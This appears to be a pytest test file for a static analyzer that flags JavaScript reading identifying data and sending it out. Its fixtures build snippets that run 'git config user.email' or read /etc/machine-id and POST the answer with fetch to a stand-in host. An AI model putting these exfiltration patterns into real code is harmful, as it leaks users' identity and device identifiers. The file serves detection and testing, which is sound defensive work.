"""Do the conditions of a rule hold for the call that was asked, wherever its answer is read?"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import scan

SEND = 'fetch("https://t.example/v1", {method: "POST", body: answer});'
GIT = ('"git config user.email"', '"git", ["config", "user.email"]')
OTHER = ('"ls dist"', '"ls", ["config", "dist"]')

# COMMAND stands for a whole command line, PROGRAM for a program with its arguments.
READS = {
    "callback of exec": 'const {exec} = require("child_process"); exec(COMMAND, (error, answer) => {SEND});',
    "callback behind options": 'const {execFile} = require("child_process"); execFile(PROGRAM, {cwd: "."}, (error, answer) => {SEND});',
    "callback of an event": 'const {spawn} = require("child_process"); spawn(PROGRAM).stdout.on("data", (answer) => {SEND});',
    "event of a variable": 'const {spawn} = require("child_process"); const p = spawn(PROGRAM); p.stdout.on("data", (answer) => {SEND});',
    "member of a variable": 'const {spawnSync} = require("child_process"); const r = spawnSync(PROGRAM); const answer = r.stdout; SEND',
    "pattern": 'const {spawnSync} = require("child_process"); const {stdout: answer} = spawnSync(PROGRAM); SEND',
    "pattern with a default": 'const {spawnSync} = require("child_process"); const {stdout: answer = ""} = spawnSync(PROGRAM); SEND',
    "pattern that is assigned": 'const {spawnSync} = require("child_process"); let answer; ({stdout: answer} = spawnSync(PROGRAM)); SEND',
    "pattern of a promise": 'const execa = require("execa"); (async () => {const {stdout: answer} = await execa(PROGRAM); SEND})();',
    "callback of a promise": 'const execa = require("execa"); execa(PROGRAM).then(({stdout: answer}) => {SEND});',
    "member in a promise's callback": 'const execa = require("execa"); execa(PROGRAM).then((r) => {const answer = r.stdout; SEND});',
    "promisified": 'const exec = require("util").promisify(require("child_process").exec);'
    "(async () => {const {stdout: answer} = await exec(COMMAND); SEND})();",
    "result that is handed on": 'const {spawnSync} = require("child_process"); const run = () => spawnSync(PROGRAM);'
    "const {stdout: answer} = run(); SEND",
}


def _kinds(tmp_path: Path, text: str) -> set[str]:
    target = tmp_path / "program.js"
    target.write_text(text, "utf-8")
    return {finding["source"]["kind"] for finding in scan(target).to_dict()["findings"]}


def _program(read: str, command: tuple[str, str]) -> str:
    return read.replace("COMMAND", command[0]).replace("PROGRAM", command[1]).replace("SEND", SEND)


@pytest.mark.parametrize("read", READS.values(), ids=READS.keys())
def test_what_git_answers_is_a_fact_of_git(tmp_path: Path, read: str) -> None:
    assert _kinds(tmp_path, _program(read, GIT)) == {"git"}


@pytest.mark.parametrize("read", READS.values(), ids=READS.keys())
def test_what_another_program_answers_is_none(tmp_path: Path, read: str) -> None:
    assert _kinds(tmp_path, _program(read, OTHER)) == set()


@pytest.mark.parametrize(("file", "kinds"), [("/etc/machine-id", {"machine-id"}), ("package.json", set())])
def test_the_callback_of_a_read_file(tmp_path: Path, file: str, kinds: set[str]) -> None:
    text = f'require("fs").readFile("{file}", "utf8", (error, answer) => {{{SEND}}});'
    assert _kinds(tmp_path, text) == kinds
